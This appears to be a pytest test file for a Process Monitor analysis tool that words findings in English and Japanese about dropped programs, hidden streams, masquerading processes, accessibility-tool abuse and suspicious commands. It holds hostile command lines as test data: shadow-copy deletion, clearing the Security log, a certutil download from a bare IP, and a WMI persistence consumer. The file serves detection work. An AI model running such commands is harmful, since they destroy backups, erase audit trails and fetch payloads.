"""What is said of a few rows is what they show: who, how many, where, and nothing that the capture can't hold."""

from __future__ import annotations

from typing import Any

import pytest

from scripts.procmon.contracts.findings import Finding
from scripts.procmon.findings.analyses import run
from scripts.procmon.text.telling import tell
from tests.captures.deeds import created, renamed, service_key, service_value, wrote
from tests.captures.events import Row, capture

USER = r"C:\Users\a"
TEMP = rf"{USER}\AppData\Local\Temp"


def found(kind: str, *rows: Row, **more: Any) -> list[Finding]:
    done = run(capture(*rows, **more))
    return [one for analysis in done.values() for one in analysis.findings if one.kind == kind]


def said(kind: str, *rows: Row, language: str = "en", **more: Any) -> dict[str, str]:
    (finding,) = found(kind, *rows, **more)
    return tell(kind, finding.facts, language)


@pytest.mark.parametrize(
    ("paths", "english", "japanese"),
    [
        ([rf"{TEMP}\b.dll"], "It lies in a temporary folder.", "置かれた場所は一時フォルダーである。"),
        (
            [rf"{TEMP}\a.dll", rf"{TEMP}\b.dll"],
            "They all lie in a temporary folder.",
            "置かれた場所はすべて一時フォルダーである。",
        ),
        (
            [r"D:\Docs\a.dll", rf"{TEMP}\b.dll"],
            rf"`{TEMP}\b.dll` lies in a temporary folder.",
            rf"`{TEMP}\b.dll` の置かれた場所は一時フォルダーである。",
        ),
        (
            [r"D:\Docs\a.dll", rf"{TEMP}\b.dll", rf"{TEMP}\c.dll"],
            "2 of them lie in a temporary folder.",
            "うち 2 個の置かれた場所は一時フォルダーである。",
        ),
    ],
)
def test_only_those_files_lie_in_a_place_that_do(paths: list[str], english: str, japanese: str) -> None:
    rows = [row for path in paths for row in (created(path), wrote(path, 0, 100))]
    assert english in said("programs_dropped", *rows)["statement"]
    assert japanese in said("programs_dropped", *rows, language="ja")["statement"]


def test_a_program_that_got_its_name_by_renaming_ran_under_that_name() -> None:
    new, path = rf"{USER}\Apps\a.exe.new", rf"{USER}\Apps\a.exe"
    start = Row("Process Create", path, f"PID: 8, Command line: {path}", who="cmd.exe (4)")
    make = [created(new), wrote(new, 0, 100), renamed(new, path)]
    assert f"`{path}` was afterwards" in said("programs_dropped", *make, start)["statement"]
    # What ran before the renaming was the one that stood there until then.
    assert "afterwards" not in said("programs_dropped", start, *make)["statement"]


NETLESS = {"network_events": False}


@pytest.mark.parametrize(
    ("rows", "path", "more"),
    [
        (["C:\\Windows\\Temp:evil.dll"], "C:\\Windows\\Temp", "a library and can be loaded from there"),
        (
            [rf"{USER}\Documents\r.txt:p.exe"],
            rf"{USER}\Documents\r.txt",
            "a program and can be started from there",
        ),
    ],
)
def test_a_stream_is_told_apart_from_the_file_or_folder_that_has_it(
    rows: list[str], path: str, more: str
) -> None:
    made = [row for stream in rows for row in (created(stream), wrote(stream, 0, 100))]
    told = said("stream_made", *made)
    assert told["title"].endswith(f"hid data in a hidden stream of `{path}`")
    assert f"of `{path}` and wrote" in told["statement"]
    assert more in told["meaning"]
    assert f"`{path}` の隠しストリームにデータを隠した" in said("stream_made", *made, language="ja")["title"]


def test_of_several_streams_the_title_counts_all() -> None:
    made = [created(rf"{USER}\Documents\{name}.txt:x.exe") for name in "abc"]
    assert "made 3 hidden streams" in said("stream_made", *made)["title"]
    assert "3 個の隠しストリームを作成した" in said("stream_made", *made, language="ja")["title"]


HOST = "rundll32.exe (9)"


@pytest.mark.parametrize(
    ("command", "said_so"),
    [
        (r"rundll32 C:\Windows\Temp:evil.dll,Go", "whoever started rundll32.exe (9) asked for it"),
        ("rundll32 other.dll,Go", "how the module came into the process is not recorded"),
    ],
)
def test_a_module_that_the_command_line_names_was_asked_for(command: str, said_so: str) -> None:
    row = Row(
        "Load Image", "C:\\Windows\\Temp:evil.dll", "Image Base: 0x70000000, Image Size: 0x8000", who=HOST
    )
    people = {HOST: {"image_path": r"C:\Windows\System32\rundll32.exe", "command_line": command}}
    told = said("odd_module", row, processes=people, can_show={"stacks": False, "modules": False})
    assert said_so in told["confidence_reason"]
    assert told["confidence_reason"].startswith("The path stands in the event in which it was loaded")
    assert ("chose the place" in told["benign_explanation"]) == ("evil" in command)
    assert "the capture holds no stacks" in told["statement"]
    assert (f"The command line of {HOST} names it: `{command}`" in told["statement"]) == ("evil" in command)
    asked = [
        row
        for row in run(capture(row, processes=people))["open_questions"].tables["questions"]
        if row.kind == "how_loaded"
    ]
    assert len(asked) == ("evil" not in command)


def test_nothing_is_said_not_to_have_happened_that_the_capture_could_not_show() -> None:
    place = "C:\\$Recycle.Bin\\S-1-5-21-1\\x.exe"
    row = Row("Load Image", place, "Image Base: 0x70000000, Image Size: 0x8000", who="x.exe (9)")
    people = {"x.exe (9)": {"image_path": place}}
    told = said("odd_program", row, processes=people, can_show={"registry_events": False})
    assert (
        "nothing that the capture shows, which lacks events of files or of the registry" in told["statement"]
    )
    assert "It changed nothing in the capture." in said("odd_program", row, processes=people)["statement"]


def test_a_false_process_sent_nothing_only_where_the_network_was_watched() -> None:
    rows = [Row("Thread Create", detail="Thread ID: 4", who="lsass.exe (9)", result="SUCCESS")]
    people = {
        "lsass.exe (9)": {"image_path": r"C:\Users\a\lsass.exe"},
        "lsass.exe (5)": {"image_path": r"C:\Windows\System32\lsass.exe"},
    }
    assert "sent nothing over the network" in said("masquerade", *rows, processes=people)["statement"]
    told = said("masquerade", *rows, processes=people, can_show=NETLESS)["statement"]
    assert "whether it sent anything can't be told, since it holds no network events" in told


def tried(operation: str, detail: str) -> list[Row]:
    return [
        Row(operation, f"pc:{50_000 + n} -> 10.2.3.{n}:27015", detail, who="scan.exe (5)", at=1.0)
        for n in range(8)
    ]


def test_who_tried_to_connect_sent_nothing() -> None:
    people = {"scan.exe (5)": {"image_path": rf"{USER}\Downloads\scan.exe"}}
    attempts = said("unanswered_peers", *tried("TCP Reconnect", "Length: 0"), processes=people)
    assert "tried to connect by TCP to port 27015 of 8 addresses" in attempts["statement"]
    assert attempts["statement"].startswith("At ")
    assert "tried to connect to 8 addresses" in attempts["title"]
    assert attempts["confidence_reason"].startswith("Each attempt is recorded")
    sent = said("unanswered_peers", *tried("UDP Send", "Length: 20"), processes=people)
    assert "sent UDP messages of 20 bytes each to port 27015" in sent["statement"]
    japanese = said("unanswered_peers", *tried("TCP Reconnect", "Length: 0"), processes=people, language="ja")
    assert "TCP の接続を試みた" in japanese["statement"]
    assert "送信" not in japanese["statement"] + japanese["title"]


def test_of_a_suspect_it_is_not_said_what_it_is_not() -> None:
    people = {"scan.exe (5)": {"image_path": "C:\\$Recycle.Bin\\S-1-5-21-1\\scan.exe"}}
    told = said("unanswered_peers", *tried("TCP Reconnect", "Length: 0"), processes=people)
    assert "whether scan.exe (5) is one of them the capture does not tell" in told["benign_explanation"]


MANAGER = "services.exe (700)"


@pytest.mark.parametrize(
    ("image", "program", "severity"),
    [
        (r"C:\Windows\System32\services.exe", r"C:\Program Files\Good\gp.exe", "low"),
        (r"C:\Windows\System32\services.exe", r"C:\Windows\System32\spool2.exe", "medium"),
        (r"C:\Windows\Temp\services.exe", r"C:\Program Files\Good\gp.exe", "medium"),
    ],
)
def test_a_products_service_is_not_held_against_it_where_foreign_code_is_in_the_manager(
    image: str, program: str, severity: str
) -> None:
    odd = "C:\\$Recycle.Bin\\S-1-5-21-1\\x.dll"
    rows = [
        Row("Load Image", odd, "Image Base: 0x70000000, Image Size: 0x8000", who=MANAGER),
        service_key("Good", who=MANAGER),
        service_value("Good", "ImagePath", program, who=MANAGER),
    ]
    (finding,) = found("service_made", *rows, processes={MANAGER: {"image_path": image}})
    assert finding.severity == severity
    for language, excused in (
        ("en", "sets up what others ask of it"),
        ("ja", "求めに応じてサービスを登録する"),
    ):
        told = tell(finding.kind, finding.facts, language)["benign_explanation"]
        assert (excused in told) == (severity == "low")
        assert f"{MANAGER} and {MANAGER}" not in told


AIDS = r"C:\Windows\System32"


@pytest.mark.parametrize(
    ("parent", "path", "child", "severity"),
    [
        ("explorer.exe", rf"{AIDS}\Utilman.exe", "osk.exe", "info"),
        ("explorer.exe", rf"{AIDS}\Utilman.exe", "cmd.exe", "high"),
        ("explorer.exe", r"C:\Users\a\Utilman.exe", "osk.exe", "high"),
        ("word.exe", rf"{AIDS}\Utilman.exe", "osk.exe", "high"),
    ],
)
def test_windows_starts_its_manager_of_aids_as_the_system(
    parent: str, path: str, child: str, severity: str
) -> None:
    rows = [
        Row(
            "Process Start", detail="Parent PID: 40, Command line: utilman.exe /debug", who="Utilman.exe (50)"
        ),
        Row("Process Start", detail="Parent PID: 50, Command line: x", who=f"{child} (51)"),
    ]
    people = {
        f"{parent} (40)": {"integrity": "Medium", "image_path": rf"C:\Windows\{parent}"},
        "Utilman.exe (50)": {
            "integrity": "System",
            "authentication_id": "00000000:000003e7",
            "image_path": path,
            "parent": f"{parent} (40)",
        },
        f"{child} (51)": {"integrity": "System", "parent": "Utilman.exe (50)"},
    }
    (finding,) = found("rights_above_parent", *rows, processes=people)
    assert finding.severity == severity
    told = tell(finding.kind, finding.facts)
    assert ("Win+U" in told["benign_explanation"]) == (severity == "info")
    assert ("weakness" in told["meaning"]) == (severity == "high")
    assert ("Win+U" in tell(finding.kind, finding.facts, "ja")["benign_explanation"]) == (severity == "info")


BAD = "new.exe (5)"
LOADER = {BAD: {"image_path": rf"{USER}\Downloads\new.exe"}}


def over(path: str) -> Row:
    detail = "Desired Access: Generic Write, Disposition: OverwriteIf, OpenResult: Overwritten"
    return Row("CreateFile", path, detail, who=BAD)


def test_of_several_programs_only_those_in_windows_pass_for_a_part_of_it() -> None:
    mine, other = r"C:\Windows\System32\own.exe", rf"{USER}\Apps\b.exe"
    rows = [over(mine), wrote(mine, 0, 100, who=BAD), created(other, who=BAD), wrote(other, 0, 100, who=BAD)]
    told = said("programs_dropped", *rows, processes=LOADER)
    assert f"`{mine}` stood there before and was written over." in told["statement"]
    assert "put 1 of them into Windows' own folder, where it passes for a part" in told["meaning"]
    told = said("programs_dropped", *rows[:2], processes=LOADER)
    assert "put it into Windows' own folder" in told["meaning"]
    assert (
        "1 個を Windows のフォルダーに"
        in said("programs_dropped", *rows, processes=LOADER, language="ja")["meaning"]
    )


def test_a_hidden_program_has_more_against_it_than_its_maker() -> None:
    row = created(rf"{USER}\AppData\Roaming\x.dll", attributes="HS", who=BAD)
    told = said("files_hidden", row, processes=LOADER)["benign_explanation"]
    assert "lies where users may write, and that it is a program" in told
    assert "only" not in told


def test_that_nothing_was_registered_is_said_only_where_it_would_be_seen() -> None:
    path = r"C:\Windows\System32\own.exe"
    rows = [created(path, who=BAD), wrote(path, 0, 100, who=BAD)]
    entry = Row("RegSetValue", r"HKCU\Software\Any\x", "Type: REG_SZ, Length: 4, Data: x", who=BAD)
    for language, said_so, open_still in (
        ("en", "Against it speaks that nothing was registered", "which this capture could not show"),
        ("ja", "アンインストールのための登録がなく", "登録の有無がわからない"),
    ):
        told = said("programs_dropped", *rows, entry, processes=LOADER, language=language)
        assert said_so in told["benign_explanation"]
        told = said("programs_dropped", *rows, processes=LOADER, language=language)
        assert open_still in told["benign_explanation"]
        assert said_so not in told["benign_explanation"]


def test_what_the_kernel_wrote_for_others_is_no_program_from_where_users_may_write() -> None:
    kernel = {"System (4)": {"image_path": "System"}}
    path = r"C:\Windows\helper.exe"
    rows = [created(path, who="System (4)"), wrote(path, 0, 100, who="System (4)")]
    told = said("programs_dropped", *rows, processes=kernel)
    assert "for another computer that reaches a share" in told["meaning"]
    assert "where users may write" not in " ".join(told.values())
    japanese = said("programs_dropped", *rows, processes=kernel, language="ja")
    assert "別のコンピューターのために" in japanese["meaning"]


def test_a_service_that_was_disabled_is_lost_from_the_next_start_on() -> None:
    told = said("protection_removed", service_value("wscsvc", "Start", 4, who="reg.exe (5)"))
    assert told["meaning"].startswith("From the next start of Windows on, if not before, ")
    assert (
        "次に Windows を起動したときから"
        in said("protection_removed", service_value("wscsvc", "Start", 4, who="reg.exe (5)"), language="ja")[
            "meaning"
        ]
    )


def commanded(name: str, line: str, language: str = "en") -> dict[str, str]:
    who = f"{name} (9)"
    start = Row("Process Start", detail="Parent PID: 4", who=who)
    people = {who: {"command_line": line, "image_path": rf"C:\Windows\System32\{name}"}}
    return said("command_line", start, processes=people, language=language)


def test_only_arguments_of_powershell_are_called_so() -> None:
    consumer = r'wmic /NAMESPACE:"\\root\subscription" PATH CommandLineEventConsumer CREATE Name="x"'
    assert "PowerShell" not in commanded("WMIC.exe", consumer)["statement"]
    assert "PowerShell" not in commanded("WMIC.exe", consumer, "ja")["statement"]


@pytest.mark.parametrize(
    ("name", "line"),
    [
        ("vssadmin.exe", "vssadmin delete shadows /all /quiet"),
        ("wevtutil.exe", "wevtutil cl Security"),
        ("certutil.exe", r"certutil -urlcache -split -f http://1.2.3.4/a.exe C:\Users\Public\a.exe"),
    ],
)
def test_of_a_command_it_is_not_said_that_it_succeeded(name: str, line: str) -> None:
    assert "where it succeeded" in commanded(name, line)["meaning"].lower()
    assert "成功していれば" in commanded(name, line, "ja")["meaning"]
